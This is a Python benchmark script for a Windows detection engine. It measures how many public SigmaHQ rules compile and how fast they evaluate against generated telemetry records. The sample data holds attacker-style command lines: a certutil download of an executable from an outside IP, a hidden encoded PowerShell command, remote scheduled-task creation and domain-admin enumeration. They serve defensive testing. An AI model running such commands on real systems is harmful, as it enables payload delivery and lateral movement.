"""How much of the public SigmaHQ rule set the detection engine runs, and how fast.

    python bench/sigma_coverage.py --rules-dir /tmp/sigmahq

``--rules-dir`` is a checkout (or ``git archive``) of github.com/SigmaHQ/sigma, or its
``rules`` folder; nothing from it is copied into the project. The script compiles every
rule of the Windows categories we have telemetry for, evaluates every loaded rule against
generated records (any exception is a bug and fails the run), and prints load coverage,
a histogram of refusal reasons and evaluation speed. Speed is reported as a ratio to a
baseline measured in the same run on the same records: walking the batch and reading
(lower-casing) the columns the rules use, the work no engine can avoid.
"""

from __future__ import annotations

import argparse
import random
import re
import sys
import time
from collections import Counter
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from endpoints.detection import CompiledRule, Engine, compile_rule
from endpoints.detection.conditions import prepare
from endpoints.detection.errors import RuleError

CATEGORY_DIRS = (
    "process_creation",
    "file/file_event",
    "registry/registry_set",
    "registry/registry_event",
    "network_connection",
    "dns_query",
)

IMAGES = (
    r"c:\windows\system32\cmd.exe",
    r"c:\windows\system32\windowspowershell\v1.0\powershell.exe",
    r"c:\windows\system32\rundll32.exe",
    r"c:\windows\system32\svchost.exe",
    r"c:\windows\explorer.exe",
    r"c:\program files\microsoft office\root\office16\winword.exe",
    r"c:\users\alice\appdata\local\temp\setup.exe",
    r"c:\windows\system32\net.exe",
    r"c:\windows\system32\wbem\wmiprvse.exe",
    r"c:\program files\google\chrome\application\chrome.exe",
)
COMMAND_LINES = (
    "cmd.exe /c whoami /all",
    "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
    "svchost.exe -k netsvcs -p -s Schedule",
    'net group "domain admins" /domain',
    'schtasks /create /s HOST2 /tn upd /tr "c:\\temp\\a.bat" /sc once /st 10:00',
    "certutil -urlcache -split -f http://203.0.113.7/p.exe p.exe",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
    "A" * 8000,  # the longest command line an agent sends
    "\u00fcn\u00efc\u00f6d\u00e9 \u2014 dash \u2013enc ",  # non-ASCII dashes (windash)
)


def generate_records(count: int, seed: int = 7) -> list[dict[str, Any]]:
    """Plausible observation records of every kind, with some empty and odd values."""
    rng = random.Random(seed)
    now = datetime(2025, 1, 1, tzinfo=UTC)
    records: list[dict[str, Any]] = []
    for i in range(count):
        image = rng.choice(IMAGES)
        parent = rng.choice(IMAGES)
        base: dict[str, Any] = {
            "event_id": f"ev-{i}",
            "observed_at": now,
            "pid": rng.randint(4, 60000),
            "ppid": rng.randint(4, 60000),
            "process_path": image,
            "process_name": image.rsplit("\\", 1)[-1],
            "parent_path": parent,
            "parent_name": parent.rsplit("\\", 1)[-1],
            "command_line": rng.choice(COMMAND_LINES),
            "parent_command_line": rng.choice((*COMMAND_LINES, "")),
            "user_name": rng.choice((r"corp\alice", r"nt authority\system", "")),
            "integrity_level": rng.choice(("medium", "high", "system")),
            "original_file_name": image.rsplit("\\", 1)[-1],
            "pe_description": rng.choice(("Windows Command Processor", None)),
            "sha256": f"{rng.getrandbits(256):064x}",
            "md5": f"{rng.getrandbits(128):032x}",
        }
        kind = rng.choice(("process_event", "process", "file", "registry", "network", "dns"))
        base["kind"] = kind
        if kind == "process_event":
            base["action"] = rng.choice(("start", "start", "stop"))
        elif kind == "file":
            path = rng.choice(
                (r"c:\users\bob\appdata\local\temp\a.ps1", r"c:\windows\temp\x.zip", "c:\\x.dll")
            )
            base |= {"action": "create", "file_path": path, "header_hex": "504b0304"}
        elif kind == "registry":
            base |= {
                "action": rng.choice(("set", "create", "delete")),
                "registry_key": r"hklm\software\microsoft\windows\currentversion\run\upd",
                "registry_value": rng.choice(("DWORD (0x00000001)", r"C:\Temp\a.exe", "")),
            }
        elif kind == "network":
            base |= {
                "protocol": "tcp",
                "remote_ip": rng.choice(("10.1.2.3", "203.0.113.7", "::1", "not-an-ip")),
                "remote_port": rng.choice((80, 443, 445, 4444)),
                "remote_hostname": rng.choice(("", "example.org", "raw.githubusercontent.com")),
                "direction": rng.choice(("outbound", "inbound")),
                "local_ip": "10.0.0.5",
                "local_port": rng.randint(1024, 65535),
            }
        elif kind == "dns":
            base |= {"dns_query": rng.choice(("example.org", "x.ngrok.io")), "dns_answers": ""}
        records.append(base)
    return records


def find_rule_files(rules_dir: Path) -> list[Path]:
    root = rules_dir / "rules" if (rules_dir / "rules").is_dir() else rules_dir
    files: list[Path] = []
    for sub in CATEGORY_DIRS:
        folder = root / "windows" / sub
        if not folder.is_dir():
            raise SystemExit(f"missing rule folder {folder}")
        files.extend(sorted(folder.glob("*.yml")))
    return files


def reason_key(reason: str) -> str:
    """Group refusals whose text differs only in a long quoted value (a regex, a path)."""
    return re.sub(r"'[^']{25,}'", "'…'", reason)


def best_of(repeats: int, fn: Callable[[], object]) -> float:
    best = float("inf")
    for _ in range(repeats):
        start = time.perf_counter()
        fn()
        best = min(best, time.perf_counter() - start)
    return best


def measure(rules: Sequence[CompiledRule], records: list[dict[str, Any]], repeats: int) -> None:
    engine = Engine(rules)
    columns = {kind: engine.columns(kind) for kind in {r["kind"] for r in records}}

    def baseline() -> None:  # the same per-record work the engine does before any rule
        for record in records:
            prepare(record, columns[record["kind"]])

    detections = engine.evaluate(records)
    base = best_of(repeats, baseline)
    run = best_of(repeats, lambda: engine.evaluate(records))
    print(
        f"  {len(rules):5d} rules x {len(records)} records: {run * 1000:8.1f} ms, "
        f"{len(records) / run:10.0f} records/s, baseline {base * 1000:6.1f} ms, "
        f"ratio {run / base:6.1f}x, {len(detections)} detections"
    )


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rules-dir", type=Path, required=True)
    parser.add_argument("--records", type=int, default=5000)
    parser.add_argument("--repeats", type=int, default=3)
    parser.add_argument("--verify-records", type=int, default=500)
    args = parser.parse_args(argv)

    files = find_rule_files(args.rules_dir)
    loaded: list[CompiledRule] = []
    refusals: Counter[str] = Counter()
    per_folder: Counter[tuple[str, bool]] = Counter()
    start = time.perf_counter()
    for path in files:
        try:
            loaded.append(compile_rule(path.read_text(encoding="utf-8")))
            per_folder[(path.parent.name, True)] += 1
        except RuleError as exc:
            refusals[f"{type(exc).__name__}: {reason_key(exc.reason)}"] += 1
            per_folder[(path.parent.name, False)] += 1
    compile_seconds = time.perf_counter() - start

    total, total_refused = len(files), sum(refusals.values())
    print(f"rules: {total}  loaded: {len(loaded)}  refused: {total_refused}  ", end="")
    print(f"coverage: {100 * len(loaded) / total:.1f}%  (compiled in {compile_seconds:.1f} s)")
    for folder in sorted({name for name, _ in per_folder}):
        ok, bad = per_folder[(folder, True)], per_folder[(folder, False)]
        print(f"  {folder:20s} {ok:5d} / {ok + bad:5d}")
    print("refusal reasons:")
    for reason, count in refusals.most_common():
        print(f"  {count:4d}  {reason}")

    records = generate_records(args.records)
    print("evaluation (every loaded rule must run without error):")
    measure(loaded, records, args.repeats)
    sample = random.Random(1).sample(loaded, min(100, len(loaded)))
    measure(sample, records, args.repeats)
    return verify_index(loaded, records[: args.verify_records])


def verify_index(rules: Sequence[CompiledRule], records: list[dict[str, Any]]) -> int:
    """The engine's rule index must give exactly what running every rule on every record does."""
    indexed = {(d.rule.rule_id, d.record_index) for d in Engine(rules).evaluate(records)}
    brute = {(r.rule_id, i) for i, rec in enumerate(records) for r in rules if r.matches(rec)}
    verdict = "identical" if indexed == brute else "DIFFERENT"
    print(f"index check on {len(records)} records: {verdict} ({len(brute)} detections)")
    return 0 if indexed == brute else 1


if __name__ == "__main__":
    raise SystemExit(main())
